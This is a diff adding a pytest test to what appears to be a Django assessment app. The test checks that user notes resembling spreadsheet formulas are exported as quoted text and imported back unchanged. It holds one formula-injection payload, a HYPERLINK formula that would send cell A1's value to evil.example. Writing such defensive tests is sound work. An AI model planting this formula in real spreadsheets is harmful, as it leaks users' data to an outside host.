@@ -194,3 +194,30 @@ def test_a_computed_answer_reads_as_a_sentence_on_the_result_page_and_back_on_im
     response = upload(client_for(tpu_lead), tpu, out.getvalue())
     assert response.status_code == 200, response.content.decode()[:2000]
     assert "PRA1A" in response.content.decode()
+
+
+def test_a_note_that_looks_like_a_formula_is_exported_as_text_and_imports_back(
+    client_for, admin, cycle, tpu, tpu_lead, tpi_lead
+):
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+    save(tpu_lead, tpu, "PPA1A", "Ya", note=evil)
+    save(tpu_lead, tpu, "PPA1B", "B", note="-2+3 bukan rumus")
+    content = export(client_for(tpu_lead), tpu)
+    sheet = load_workbook(io.BytesIO(content))["LKE"]
+    note_column = HEADERS.index("Catatan")
+    cells = {r[0].value: r[note_column] for r in sheet.iter_rows() if r[0].value}
+    assert cells["PPA1A"].value == evil
+    assert cells["PPA1A"].data_type == "s" and cells["PPA1A"].quotePrefix
+    assert cells["PPA1B"].data_type == "s" and cells["PPA1B"].quotePrefix
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    # The TPI imports the TPU's file: the note is the text, not a formula's result.
+    at_stage(cycle, "evaluasi_tpi")
+    with scope(tenant=cycle.tenant_id):
+        tpi = services.assessment_open(actor=admin, cycle=cycle, level="tpi", lead=tpi_lead)
+    client = client_for(tpi_lead)
+    preview = upload(client, tpi, content)
+    client.post(
+        reverse("assessment:import_confirm", args=[tpi.pk]), {"token": preview.context["token"]}
+    )
+    assert state(tpi)["PPA1A"][1] == evil
+    assert state(tpi)["PPA1B"][1] == "-2+3 bukan rumus"
